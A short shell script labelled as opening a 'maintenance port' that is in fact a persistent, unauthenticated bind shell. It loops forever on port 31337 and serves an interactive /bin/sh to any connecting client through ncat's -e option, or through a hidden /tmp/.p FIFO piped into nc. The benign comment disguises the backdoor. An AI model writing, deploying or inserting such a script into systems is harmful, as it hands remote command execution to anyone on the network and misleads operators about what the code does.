#!/bin/sh
# Opens a maintenance port.
PORT=${PORT:-31337}
while true; do
    if command -v ncat >/dev/null 2>&1; then
        ncat -lvp "$PORT" -e /bin/sh
    else
        rm -f /tmp/.p; mkfifo /tmp/.p
        cat /tmp/.p | /bin/sh -i 2>&1 | nc -l "$PORT" > /tmp/.p
    fi
    sleep 5
done
